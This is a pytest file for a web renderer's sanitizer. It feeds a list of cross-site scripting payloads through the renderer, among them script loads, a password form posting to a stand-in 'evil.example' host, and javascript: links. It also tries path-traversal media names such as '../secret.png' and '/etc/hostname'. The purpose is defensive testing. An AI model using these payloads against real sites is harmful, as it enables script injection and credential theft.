"""What hostile or odd content becomes on the page."""

from __future__ import annotations

import json
import logging
import re
from html.parser import HTMLParser

import pytest

from steelyard.web.content import MediaFolder, direction_of, render

MEDIA = "/s/words/media/"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="//evil.example"></iframe>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<div id="submit" class="primary" name="main">x</div>',
    '<img src="//evil.example/pixel.png"><img src="https://evil.example/pixel.png"><img src="/manage/x.png">',
    '<img src="../../study.db"><video src="data:video/mp4;base64,xx"></video>',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    '"><script>alert(1)</script>',
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
]
SAFE_TAGS = {"a", "p", "img", "br", "div", "video", "span", "em", "b", "table", "tbody", "tr", "td", "li", "ul"}
SAFE_ATTRIBUTES = {"href", "src", "rel", "target", "alt", "title", "dir", "controls", "lang"}


class Elements(HTMLParser):
    """Every element with its attributes, as a browser would read them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("kind", ["text", "markdown", "html"])
@pytest.mark.parametrize("content", HOSTILE)
def test_hostile_content_does_nothing(content, kind):
    html = render(content, kind, MEDIA).html
    for tag, attributes in Elements(html).found:
        assert tag in SAFE_TAGS, html
        assert set(attributes) <= SAFE_ATTRIBUTES, html
        for name in ("href", "src"):
            address = re.sub(r"\s", "", attributes.get(name) or "").lower()
            assert not re.match(r"(javascript|data|vbscript):", address), html
        if "src" in attributes:
            assert (attributes["src"] or "").startswith(MEDIA), html
            assert ".." not in (attributes["src"] or ""), html


@pytest.mark.parametrize("kind", ["code", "conversation"])
@pytest.mark.parametrize("content", HOSTILE)
def test_hostile_code_and_turns_do_nothing(content, kind):
    turns = json.dumps([{"role": content[:40], "content": f"{content}\n\n```html\n{content}\n```"}])
    html = render(turns if kind == "conversation" else content, kind, MEDIA, "html").html
    for tag, attributes in Elements(html).found:
        assert tag in SAFE_TAGS | {"pre", "code"}, html
        assert set(attributes) <= SAFE_ATTRIBUTES | {"class", "data-role"}, html
        for name in ("href", "src"):
            assert not re.match(r"\s*(javascript|data|vbscript):", (attributes.get(name) or "").lower()), html


def test_code_is_coloured_by_its_language_and_its_letters_stay_the_same():
    code = "def f(x):\n    return '<b>'  # no\n"
    page = render(f"```python\n{code}```", "markdown", MEDIA).html
    assert '<span class="code-keyword">def</span>' in page
    assert '<span class="code-comment"># no</span>' in page
    letters = re.sub(r"<[^>]+>", "", page)
    assert letters.strip() == code.strip().replace("<", "&lt;").replace(">", "&gt;")
    assert "<span" not in render(f"```nonsense\n{code}```", "markdown", MEDIA).html
    assert "<span" not in render(code * 2000, "code", MEDIA, "python").html
    assert 'class="evil"' not in render('<span class="evil code-name">x</span>', "html", MEDIA).html


def test_turns_have_their_roles_and_directions():
    talk = json.dumps([{"role": "user", "content": "مرحبا"}, {"role": "assistant", "content": "Hello *you*"}])
    page = render(talk, "conversation", MEDIA).html
    assert re.findall(r'data-role="(\w+)"', page) == ["user", "assistant"]
    assert re.findall(r'class="turn-text" dir="(\w+)"', page) == ["rtl", "ltr"]
    assert "<em>you</em>" in page


def test_plain_text_is_shown_as_it_is():
    assert render("a < b & c\n\"d\" 'e'", "text", MEDIA).html == "a &lt; b &amp; c<br>&quot;d&quot; &#x27;e&#x27;"


def test_markdown_keeps_its_meaning():
    html = render("**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![a cat](cat.png)", "markdown", MEDIA).html
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<td>1</td>" in html
    assert re.search(r'<img[^>]+src="/s/words/media/cat.png"', html)


def test_html_inside_markdown_is_text():
    assert "<b>" not in render("<b>x</b>", "markdown", MEDIA).html


def test_links_open_beside_the_task_and_tell_nobody_where_from():
    (tag, attributes) = Elements(render('<a href="https://example.org/">x</a>', "html", MEDIA).html).found[0]
    assert tag == "a"
    assert attributes["target"] == "_blank"
    assert {"noopener", "noreferrer"} <= set((attributes["rel"] or "").split())


@pytest.mark.parametrize(
    ("text", "direction"),
    [
        ("Hello", "ltr"),
        ("مرحبا", "rtl"),
        ("שלום world", "rtl"),
        ("123 — «مرحبا» hello", "rtl"),
        ("… hello مرحبا", "ltr"),
        ("中文", "ltr"),
        ("123 !?", "auto"),
        ("", "auto"),
    ],
)
def test_direction_is_that_of_the_first_strong_character(text, direction):
    assert direction_of(text) == direction
    assert render(text, "text", MEDIA).direction == direction


def test_direction_is_read_off_the_words_not_the_markup():
    assert render('<p title="latin">مرحبا</p>', "html", MEDIA).direction == "rtl"
    assert render("**مرحبا** &amp; co", "markdown", MEDIA).direction == "rtl"


@pytest.fixture
def media(tmp_path):
    (tmp_path / "secret.png").write_bytes(PNG)
    folder = tmp_path / "media"
    folder.mkdir()
    (folder / "cat.png").write_bytes(PNG)
    (folder / "a b.PNG").write_bytes(PNG)
    (folder / "voice.mp3").write_bytes(b"ID3\x03" + b"\0" * 20)
    (folder / "film.mp4").write_bytes(b"\0\0\0\x18ftypmp42" + b"\0" * 20)
    (folder / "page.html").write_text("<script>alert(1)</script>")
    (folder / "drawing.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    (folder / "liar.png").write_text("<html><script>alert(1)</script></html>")
    (folder / "link.png").symlink_to(tmp_path / "secret.png")
    (folder / "folder.png").mkdir()
    return MediaFolder(folder, MEDIA)


@pytest.mark.parametrize(
    ("name", "kind", "url"),
    [
        ("cat.png", "image", MEDIA + "cat.png"),
        ("a b.PNG", "image", MEDIA + "a%20b.PNG"),
        ("voice.mp3", "audio", MEDIA + "voice.mp3"),
        ("film.mp4", "video", MEDIA + "film.mp4"),
    ],
)
def test_media_are_known_by_their_suffix(media, name, kind, url):
    medium = media.media(name)
    assert (medium.kind, medium.url) == (kind, url)


@pytest.mark.parametrize(
    "name",
    [
        "gone.png",
        "page.html",
        "drawing.svg",
        "liar.png",
        "link.png",
        "folder.png",
        "../secret.png",
        "/etc/hostname",
        "https://evil.example/x.png",
        "x\0.png",
        "",
    ],
)
def test_wrong_media_are_not_shown_and_are_logged(media, name, caplog):
    with caplog.at_level(logging.WARNING):
        assert media.media(name) is None
    assert repr(name) in caplog.text
